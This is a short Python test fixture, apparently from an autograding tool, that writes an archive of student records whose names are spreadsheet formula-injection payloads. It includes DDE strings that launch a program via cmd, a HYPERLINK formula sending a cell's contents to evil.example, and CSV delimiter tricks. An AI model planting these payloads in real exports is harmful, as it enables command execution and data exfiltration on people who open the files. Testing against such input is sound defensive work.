"""Has names that start programs or send cells to an address."""

from pathlib import Path

from autograde.attacks.archives.people import Cast, Person
from autograde.attacks.archives.zipping import pack

NAMES = (
    "=cmd|' C calc'!A0", '=HYPERLINK("http:evil.example?"&A1;"Note")', "=WEBSERVICE(A1)", "@SUM(1+1)*cmd|' C calc'!A0",
    "=DDE(\"soffice\";\"x\";\"y\")", "-2+3+cmd|' C calc'!A0", "=IMPORTXML(A1)", "%0A=1+1", "x,=1+1,", "x;=1+1;", "x; =1+1",
)  # fmt: skip


def archive(path: Path, cast: Cast) -> None:
    """Write the archive."""
    people = [Person(name, "Lory", "x", 901 + number) for number, name in enumerate(NAMES)]
    pack(path, cast, {cast.mine(who=one): cast.notebook for one in people})
